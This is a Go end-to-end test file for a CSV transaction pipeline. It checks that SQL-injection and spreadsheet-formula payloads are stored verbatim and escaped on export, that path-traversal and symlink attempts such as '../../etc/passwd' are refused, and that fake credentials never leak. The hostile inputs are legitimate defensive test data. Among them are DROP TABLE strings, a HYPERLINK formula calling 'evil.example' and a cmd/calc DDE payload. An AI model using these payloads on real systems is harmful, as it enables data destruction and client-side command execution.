package e2e

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/stretchr/testify/require"
	enumspb "go.temporal.io/api/enums/v1"
	"go.temporal.io/api/temporalproto"
	"go.temporal.io/sdk/client"
	"go.temporal.io/sdk/temporal"
	"google.golang.org/protobuf/proto"

	"github.com/txflow/txflow/activities"
	"github.com/txflow/txflow/dev/internal/devstack"
	"github.com/txflow/txflow/dev/internal/devtemporal"
	"github.com/txflow/txflow/internal/starterapp"
	"github.com/txflow/txflow/internal/testdb"
	"github.com/txflow/txflow/workflows"
)

// copyFixture copies testdata/hostile/name into dir.
func copyFixture(t *testing.T, dir, name string) {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", "hostile", name))
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(filepath.Join(dir, name), b, 0o644))
}

// readCSV parses a produced CSV file into its records, header first.
func readCSV(t *testing.T, path string) [][]string {
	t.Helper()
	f, err := os.Open(path)
	require.NoError(t, err)
	defer f.Close()
	r := csv.NewReader(f)
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	require.NoError(t, err, path)
	return recs
}

// byID indexes records (header first) by their column col.
func byID(recs [][]string, col int) map[string][]string {
	out := map[string][]string{}
	for _, r := range recs[1:] {
		out[r[col]] = r
	}
	return out
}

// TestHostileContentStoredVerbatimExportedSafely runs a file of SQL and spreadsheet-formula
// payloads: every value must be stored exactly as read, and every text cell a spreadsheet would
// take for a formula must be written with a leading apostrophe in both output files.
func TestHostileContentStoredVerbatimExportedSafely(t *testing.T) {
	h := start(t)
	copyFixture(t, h.input, "injection.csv")
	code, out, errOut := h.starter("run", "injection.csv")
	require.Equal(t, 0, code, "stdout:\n%s\nstderr:\n%s", out, errOut)
	id := h.runID("injection.csv")
	dir := filepath.Join(h.output, id)
	golden(t, filepath.Join(dir, "output_transactions.csv"), "testdata/golden/hostile/injection/output_transactions.csv")
	golden(t, filepath.Join(dir, "error_report.csv"), "testdata/golden/hostile/injection/error_report.csv")

	s := h.summary(id)
	require.EqualValues(t, 13, s.RowsRead)
	require.EqualValues(t, 2, s.Rejected, "H9 and H11: amounts that are not numbers")
	require.EqualValues(t, 1, s.InError, "H10: amount too high")

	// Stored verbatim: the SQL was data, the tables are all there.
	ctx := context.Background()
	conn, err := pgx.Connect(ctx, h.dbURL)
	require.NoError(t, err)
	defer conn.Close(ctx)
	stored := map[string]string{}
	rows, err := conn.Query(ctx, "SELECT id, wording FROM transactions")
	require.NoError(t, err)
	for rows.Next() {
		var id, wording string
		require.NoError(t, rows.Scan(&id, &wording))
		stored[id] = wording
	}
	require.NoError(t, rows.Err())
	require.Len(t, stored, 11)
	require.Equal(t, "'); DROP TABLE transactions; --", stored["H1"])
	require.Equal(t, `=HYPERLINK("http://evil.example/?x=","click")`, stored["H2"])
	require.Equal(t, "\tTAB LEAD", stored["H6"])
	require.Equal(t, "\rCR LEAD", stored["H7"])
	require.Equal(t, "formula id", stored["=H8"])
	require.Equal(t, "id injection TAXI", stored["'); DROP TABLE run_lines; --"])
	require.Equal(t, "Robert'); DELETE FROM tags WHERE ('1'='1", stored["H12"])
	for _, table := range []string{"transactions", "run_lines", "rejected_rows", "tags", "annotations", "runs"} {
		require.Positive(t, h.count(table), "table %s lost its rows", table)
	}
	require.EqualValues(t, 11, h.count("tags"))

	// Exported safely.
	output := readCSV(t, filepath.Join(dir, "output_transactions.csv"))
	require.Equal(t, []string{"id", "amount", "wording", "tag", "annotation", "error"}, output[0])
	o := byID(output, 0)
	require.Len(t, o, 11)
	require.Equal(t, "'); DROP TABLE transactions; --", o["H1"][2], "not a formula: unchanged")
	require.Equal(t, `'=HYPERLINK("http://evil.example/?x=","click")`, o["H2"][2])
	require.Equal(t, "'+cmd|' /C calc'!A0", o["H3"][2])
	require.Equal(t, []string{"H4", "-5.00", "'-2+3", "", "SMALL EXPENSE", ""}, o["H4"], "a negative amount is a number, not a formula")
	require.Equal(t, "'@SUM(A1:A2)", o["H5"][2])
	require.Equal(t, "'\tTAB LEAD", o["H6"][2])
	require.Equal(t, "'\rCR LEAD", o["H7"][2])
	require.Equal(t, []string{"'=H8", "4.00", "formula id", "", "SALE", ""}, o["'=H8"], "ids are text cells too")
	require.Equal(t, []string{"H10", "2000000.00", "'=too high", "", "", "amount_too_high"}, o["H10"])
	require.Equal(t, []string{"'); DROP TABLE run_lines; --", "6.00", "id injection TAXI", "TAXI", "SALE", ""}, o["'); DROP TABLE run_lines; --"])
	require.Equal(t, "Robert'); DELETE FROM tags WHERE ('1'='1", o["H12"][2])

	report := readCSV(t, filepath.Join(dir, "error_report.csv"))
	require.Equal(t, []string{"line", "id", "amount", "wording", "reason"}, report[0])
	r := byID(report, 1)
	require.Len(t, r, 3)
	require.Equal(t, []string{"10", "H9", "'=1+2", "'@bad amount", "invalid_amount"}, r["H9"])
	require.Equal(t, []string{"11", "H10", "2000000.00", "'=too high", "amount_too_high"}, r["H10"])
	require.Equal(t, []string{"12", "H11", "'-@1", "'-bad amount", "invalid_amount"}, r["H11"])
}

// TestHostileEncodingsEndToEnd runs a Windows-1252 file, a semicolon-delimited file with decimal
// commas, and a CRLF file with a UTF-8 byte order mark end to end.
func TestHostileEncodingsEndToEnd(t *testing.T) {
	h := start(t)
	for _, tc := range []struct {
		file   string
		output string
	}{
		{"windows1252.csv", "id,amount,wording,tag,annotation,error\n" +
			"W1,12.50,CAFÉ TATA,TATA,SALE,\n" +
			"W2,-250.00,Réservation hôtel,,EXPENSE,\n" +
			"W3,0.00,€ symbole euro,,,\n" +
			"W4,301.00,naïve “quoted”,,LARGE SALE,\n"},
		{"semicolon.csv", "id,amount,wording,tag,annotation,error\n" +
			"S1,1234.56,LOYER TOTO,TOTO,LARGE SALE,\n" +
			"S2,-12.30,\"CAFE, CROISSANT\",,SMALL EXPENSE,\n" +
			"S3,0.50,\"TAXI; \"\"A\"\"\",TAXI,SALE,\n" +
			"S4,-200.01,EDF,,EXPENSE,\n"},
		{"crlf_bom.csv", "id,amount,wording,tag,annotation,error\n" +
			"C1,1.00,TUTU,TUTU,SALE,\n" +
			"C2,-3.10,\"QUOTED, COMMA\",,SMALL EXPENSE,\n" +
			"C3,400.00,last line,,LARGE SALE,\n"},
	} {
		t.Run(tc.file, func(t *testing.T) {
			copyFixture(t, h.input, tc.file)
			code, out, errOut := h.starter("run", tc.file)
			require.Equal(t, 0, code, "stdout:\n%s\nstderr:\n%s", out, errOut)
			id := h.runID(tc.file)
			got, err := os.ReadFile(filepath.Join(h.output, id, "output_transactions.csv"))
			require.NoError(t, err)
			require.Equal(t, tc.output, string(got))
			report, err := os.ReadFile(filepath.Join(h.output, id, "error_report.csv"))
			require.NoError(t, err)
			require.Equal(t, "line,id,amount,wording,reason\n", string(report), "no row rejected")
			s := h.summary(id)
			require.EqualValues(t, strings.Count(tc.output, "\n")-1, s.Ingested)
		})
	}
}

// TestHostilePathOutsideInputRootRefused asks for files outside the input root, through "..", an
// absolute path elsewhere and symbolic links leaving the root, both with the starter and by
// starting the workflow directly with a client, which the worker must refuse on its own. The run
// fails at once with a non-retryable error, before anything is read: a link to a named pipe
// outside the root would block any reader, no run is recorded, no output directory is made.
func TestHostilePathOutsideInputRootRefused(t *testing.T) {
	h := start(t)
	parent := filepath.Dir(h.input) // the test's own directory, holding the input root
	outside := filepath.Join(parent, "outside.csv")
	require.NoError(t, os.WriteFile(outside, []byte("id,amount,wording\nX1,1.00,SECRET ROW\n"), 0o644))
	elsewhere := filepath.Join(t.TempDir(), "elsewhere.csv")
	require.NoError(t, os.WriteFile(elsewhere, []byte("id,amount,wording\nX2,2.00,SECRET ROW\n"), 0o644))
	pipe := filepath.Join(t.TempDir(), "pipe.csv")
	require.NoError(t, syscall.Mkfifo(pipe, 0o644))
	require.NoError(t, os.Symlink(elsewhere, filepath.Join(h.input, "link.csv")))
	require.NoError(t, os.Symlink(pipe, filepath.Join(h.input, "pipe.csv")))
	require.NoError(t, os.MkdirAll(filepath.Join(h.input, "sub"), 0o755))
	require.NoError(t, os.Symlink(parent, filepath.Join(h.input, "sub", "up")))

	paths := map[string]string{
		"dot-dot":             "../outside.csv",
		"nested dot-dot":      "sub/../../outside.csv",
		"absolute":            elsewhere,
		"symlink":             "link.csv",
		"symlink to a pipe":   "pipe.csv",
		"symlinked directory": "sub/up/outside.csv",
	}

	t.Run("starter", func(t *testing.T) {
		for what, p := range paths {
			code, out, errOut := h.starter("run", p)
			require.Equal(t, starterapp.ExitUsage, code, "%s (%s): stdout:\n%s\nstderr:\n%s", what, p, out, errOut)
			require.Contains(t, errOut, "outside the root", what)
			require.NotContains(t, out+errOut, "SECRET ROW")
		}
	})

	t.Run("worker", func(t *testing.T) {
		c := dial(t, h.temporal)
		for what, p := range paths {
			id := "txflow-path-" + strings.ReplaceAll(what, " ", "-")
			began := time.Now()
			run, err := c.ExecuteWorkflow(context.Background(), client.StartWorkflowOptions{
				ID: id, TaskQueue: workflows.TaskQueue,
			}, workflows.ProcessFile, workflows.ProcessFileInput{File: p, HeartbeatTimeout: testHeartbeat})
			require.NoError(t, err)
			ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
			err = run.Get(ctx, nil)
			cancel()
			require.Error(t, err, what)
			require.Less(t, time.Since(began), 20*time.Second, "%s: a refused path must not be retried", what)
			var appErr *temporal.ApplicationError
			require.True(t, errors.As(err, &appErr), "%s: %s", what, errorChain(err))
			require.Equal(t, activities.ErrTypeBadPath, appErr.Type(), what)
			require.True(t, appErr.NonRetryable(), what)
			require.Contains(t, err.Error(), "outside the root", what)
			require.NotContains(t, err.Error(), "SECRET ROW")
			require.Equal(t, int32(1), maxAttempts(t, c, run)[actIngest], "%s: one attempt only", what)

			// The summary says why, and nothing was recorded or written but the failure report
			// (failure.json, written by the run's notice, possibly later).
			s, err := progress(c, run)
			require.NoError(t, err)
			require.Equal(t, workflows.StatusFailed, s.Status)
			require.Contains(t, stageOf(s, workflows.StageIngest).Error, "outside the root")
			entries, err := os.ReadDir(filepath.Join(h.output, id))
			if !os.IsNotExist(err) {
				require.NoError(t, err)
				for _, e := range entries {
					// failure.json, or its temporary file while the notice writes it.
					require.True(t, e.Name() == activities.FailureFile || strings.HasPrefix(e.Name(), "."+activities.FailureFile+"."),
						"%s: only the failure report may be written, found %s", what, e.Name())
				}
			}
		}
		require.Zero(t, h.count("runs"), "a refused file must not start an ingestion")
		require.Zero(t, h.count("run_lines"))
	})
}

// requireNoSecret fails the test when content, found at where, holds one of the secrets.
func requireNoSecret(t *testing.T, where string, content []byte, secrets ...string) {
	t.Helper()
	require.NotEmpty(t, content, "%s: nothing to scan", where)
	for _, s := range secrets {
		if i := bytes.Index(content, []byte(s)); i >= 0 {
			lo, hi := max(0, i-120), min(len(content), i+len(s)+40)
			t.Errorf("%s holds a secret: …%s…", where, content[lo:hi])
		}
	}
}

// TestHostileSecretsNeverLeak gives the worker a PostgreSQL password and a Temporal API key, runs
// a good file, a file that fails and a file outside the root, and scans the worker's logs (at
// debug level), the starter's output, the summaries, the errors and the whole workflow histories:
// neither secret may appear. A worker that cannot reach its database must not print the password
// either.
func TestHostileSecretsNeverLeak(t *testing.T) {
	const (
		dbPassword = "pg-Pa55word-4d1f9e"
		apiKey     = "tmprl-apikey-7c2b5a0e9f"
	)
	bin := buildWorker(t)
	srv := devtemporal.StartForTest(t, devtemporal.Options{SearchAttributes: workflows.SearchAttributes()})
	c := dial(t, srv)
	u, err := url.Parse(testdb.URL(t))
	require.NoError(t, err)
	u.User = url.UserPassword(u.User.Username(), dbPassword) // the test server trusts loopback connections
	input, output := t.TempDir(), t.TempDir()
	env := workerEnv(srv, u.String(), input, output)
	env["TEMPORAL_API_KEY"] = apiKey
	env["TEMPORAL_TLS"] = "false" // the test server speaks plain gRPC
	env["TXFLOW_LOG_LEVEL"] = "debug"
	copyFixture(t, input, "injection.csv")
	require.NoError(t, os.WriteFile(filepath.Join(input, "page.csv"), []byte("<!DOCTYPE html>\n<html>Not found</html>\n"), 0o644))

	logs := &syncBuffer{}
	w := startWorker(t, c, bin, env, logs)
	starter := func(args ...string) (int, string) {
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
		defer cancel()
		var stdout, stderr bytes.Buffer
		code := starterapp.Main(ctx, args, env, &stdout, &stderr)
		return code, stdout.String() + stderr.String()
	}
	var ids []string
	code, out := starter("run", "injection.csv")
	require.Equal(t, 0, code, out)
	requireNoSecret(t, "starter output", []byte(out), dbPassword, apiKey)
	id, err := devstack.RunIDOf(filepath.Join(input, "injection.csv"))
	require.NoError(t, err)
	ids = append(ids, id)
	summary, err := os.ReadFile(filepath.Join(output, id, "summary.json"))
	require.NoError(t, err)
	requireNoSecret(t, "summary.json", summary, dbPassword, apiKey)

	code, out = starter("run", "page.csv")
	require.Equal(t, starterapp.ExitRunFailed, code, out)
	requireNoSecret(t, "starter output of a failed run", []byte(out), dbPassword, apiKey)
	id, err = devstack.RunIDOf(filepath.Join(input, "page.csv"))
	require.NoError(t, err)
	ids = append(ids, id)

	run, err := c.ExecuteWorkflow(context.Background(), client.StartWorkflowOptions{ID: "txflow-secret-path", TaskQueue: workflows.TaskQueue},
		workflows.ProcessFile, workflows.ProcessFileInput{File: "../../etc/passwd", HeartbeatTimeout: testHeartbeat})
	require.NoError(t, err)
	runErr := run.Get(context.Background(), nil)
	require.Error(t, runErr)
	requireNoSecret(t, "run error", []byte(errorChain(runErr)), dbPassword, apiKey)
	ids = append(ids, run.GetID())

	for _, id := range ids {
		it := c.GetWorkflowHistory(context.Background(), id, "", false, enumspb.HISTORY_EVENT_FILTER_TYPE_ALL_EVENT)
		var raw, text []byte
		for it.HasNext() {
			ev, err := it.Next()
			require.NoError(t, err)
			b, err := proto.Marshal(ev) // payloads as they are stored, not base64
			require.NoError(t, err)
			raw = append(raw, b...)
			j, err := temporalproto.CustomJSONMarshalOptions{}.Marshal(ev)
			require.NoError(t, err)
			text = append(text, j...)
		}
		requireNoSecret(t, "history of "+id, raw, dbPassword, apiKey)
		requireNoSecret(t, "history of "+id+" (JSON)", text, dbPassword, apiKey)
		q, err := c.QueryWorkflow(context.Background(), id, "", workflows.ProgressQuery)
		require.NoError(t, err)
		var s workflows.Summary
		require.NoError(t, q.Get(&s))
		requireNoSecret(t, "progress of "+id, []byte(s.Error+" "+stageOf(s, workflows.StageIngest).Error+" "+s.RunID), dbPassword, apiKey)
	}
	require.NoError(t, w.Stop(45*time.Second))
	require.Contains(t, logs.String(), "level=DEBUG", "the worker logged at debug level")
	requireNoSecret(t, "worker logs", []byte(logs.String()), dbPassword, apiKey)

	// A worker whose database is down says so without the password.
	port, err := devtemporal.FreePort()
	require.NoError(t, err)
	down := *u
	down.Host = "127.0.0.1:" + strconv.Itoa(port)
	env["DATABASE_URL"] = down.String()
	failed := &syncBuffer{}
	p, err := devstack.StartProcess(bin, devstack.Environ(env), failed)
	require.NoError(t, err)
	done := make(chan error, 1)
	go func() { done <- p.Wait() }()
	select {
	case err = <-done:
	case <-time.After(time.Minute):
		p.Kill()
		t.Fatalf("a worker without its database did not exit:\n%s", failed.String())
	}
	require.Error(t, err, "a worker without its database must exit with an error")
	require.Contains(t, failed.String(), "database")
	requireNoSecret(t, "output of a worker without its database", []byte(failed.String()), dbPassword, apiKey)
}
